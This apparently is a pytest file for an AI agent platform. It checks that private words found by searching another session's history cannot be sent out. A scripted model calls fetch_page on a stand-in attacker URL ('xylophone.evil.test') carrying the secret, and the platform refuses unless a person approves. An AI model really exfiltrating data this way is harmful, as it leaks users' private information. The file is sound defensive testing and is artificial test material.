"""A model looks up what was said in another session, and then tries to send it out: in the same run, a later one, or a continued one."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.faults import invariants, world
from tests.faults.oracle import Oracle
from tests.faults.world import World
from tests.model_server import Call, ModelServer, Script

SECRET = "xylophone"
#: Nothing listens there, and nothing must be sent there.
AWAY = f"https://{SECRET}.evil.test/?q={SECRET}"
KNOWN = "https://known.test/page"
#: A person is asked, and refuses.
REFUSED = "bo denied this call"


@pytest.fixture
def opened(tmp_path: Path, model: ModelServer) -> Iterator[World]:
    with world.alone(tmp_path / "data", model) as process:
        yield process


def results(client: Oracle, run_id: str, tool: str = "fetch_page") -> list[dict[str, Any]]:
    """The results of a run's calls of a tool."""
    found = [entry["data"] for entry in client.state.runs[run_id].entries]
    return [data for data in found if data.get("type") == "tool_result" and data["tool_name"] == tool]


async def write_elsewhere(opened: World) -> None:
    """Another session contains the private word."""
    async with opened.client(await opened.new_session()) as client:
        opened.model.enqueue(Script("Noted."))
        assert await client.ended(await client.ask(f"The code word is {SECRET}")) == "completed"


async def decide_what_waits(opened: World, client: Oracle, run_id: str, decision: str = "deny") -> None:
    """Wait until a run has ended, or waits for a decision, which is made; then until its end."""

    def asked() -> list[dict[str, Any]]:
        found = [entry["data"] for entry in client.state.runs[run_id].entries] if run_id in client.state.runs else []
        return [data for data in found if data.get("type") == "approval_request"]

    await client.until(lambda: asked() or (run_id in client.state.runs and client.state.runs[run_id].ended))
    async with opened.browser() as browser:
        for request in asked():
            body = {"tool_call_id": request["tool_call_id"], "decision": decision}
            assert (await browser.call("POST", f"runs/{run_id}/approve/", body))[0] == 202
    assert await client.ended(run_id) == "completed"


async def answer_with(
    opened: World, client: Oracle, model: ModelServer, url: str, *before: Script, decision: str = "deny"
) -> str:
    """The result of a run in which a model fetches an address."""
    for script in (*before, Script(calls=[Call("fetch_page", {"url": url})]), Script("Done.")):
        model.enqueue(script)
    run_id = await client.ask("Go on")
    await decide_what_waits(opened, client, run_id, decision)
    (result,) = results(client, run_id)
    return str(result["content"])


SEARCH = Script(calls=[Call("search_history", {"query": SECRET})])


async def test_private_words_stay_in_the_session_that_read_them(opened: World, model: ModelServer) -> None:
    await write_elsewhere(opened)
    session = await opened.new_session()
    async with opened.client(session) as client:
        assert "There is no site" in await answer_with(opened, client, model, AWAY), "nothing is private yet"
        assert (await answer_with(opened, client, model, AWAY, SEARCH)).startswith(REFUSED)
        # Not because of what the model remembers: the mark belongs to the session.
        assert (await answer_with(opened, client, model, AWAY)).startswith(REFUSED), (
            "a later run carried private words out"
        )
        model.enqueue(Script("I know it."))
        assert await client.ended(await client.ask(f"Read {KNOWN} now")) == "completed"
        assert "There is no site" in await answer_with(opened, client, model, KNOWN), "what a person wrote may be asked"
        assert (await answer_with(opened, client, model, f"{KNOWN}?q={SECRET}")).startswith(REFUSED)
        # A person may allow it, each time anew.
        assert "There is no site" in await answer_with(opened, client, model, AWAY, decision="allow")
        assert (await answer_with(opened, client, model, AWAY)).startswith(REFUSED)
        await invariants.check(opened, session, [client])
    async with opened.client(await opened.new_session()) as other:
        assert "There is no site" in await answer_with(opened, other, model, AWAY), "another session has read nothing"


async def test_the_mark_outlives_a_crash_and_holds_for_what_is_continued(opened: World, model: ModelServer) -> None:
    await write_elsewhere(opened)
    session = await opened.new_session()
    async with opened.client(session) as client:
        model.enqueue(SEARCH)
        model.enqueue(Script("Thinking about it", every_s=5.0, piece=1))
        run_id = await client.ask("Go on")
        await client.until(lambda: run_id in client.state.runs and len(results(client, run_id, "search_history")) == 1)
        await opened.kill(opened.servers[0])
        model.reset()
        await opened.start(opened.servers[0])
        assert await client.ended(run_id) == "interrupted"
        model.enqueue(Script(calls=[Call("fetch_page", {"url": AWAY})]))
        model.enqueue(Script("Done."))
        again = await client.go_on(run_id)
        await decide_what_waits(opened, client, again)
        (result,) = results(client, again)
        assert result["content"].startswith(REFUSED)
        await invariants.check(opened, session, [client])
